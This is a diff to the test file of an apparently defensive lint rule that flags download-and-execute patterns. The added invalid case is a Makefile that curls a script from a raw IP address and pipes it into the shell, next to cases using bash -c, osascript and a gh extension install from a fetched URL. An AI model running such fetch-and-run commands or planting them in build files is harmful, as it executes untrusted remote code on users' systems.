@@ -120,6 +120,7 @@ await ruleTester(rule, {
     js("const text = await (await fetch('https://api.acme.example/x')).text();\nfs.writeFileSync('out.txt', text);"),
   ],
   invalid: [
+    { code: `GET := curl -s http://45.61.3.2/a\nall:\n\t@$(GET) | $(SHELL)\n`, filename: 'Makefile', errors: [{ messageId: 'pipe', line: 3 }] },
     bad(server('wsl.exe', '-d', 'Ubuntu', 'bash', '-c', BAD_ADDRESS), 'pipe'),
     bad(task(`osascript -e 'do shell script "${BAD_ADDRESS}"'`), 'pipe'),
     { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["extension", "install", url]);', errors: [{ messageId: 'download' }] },
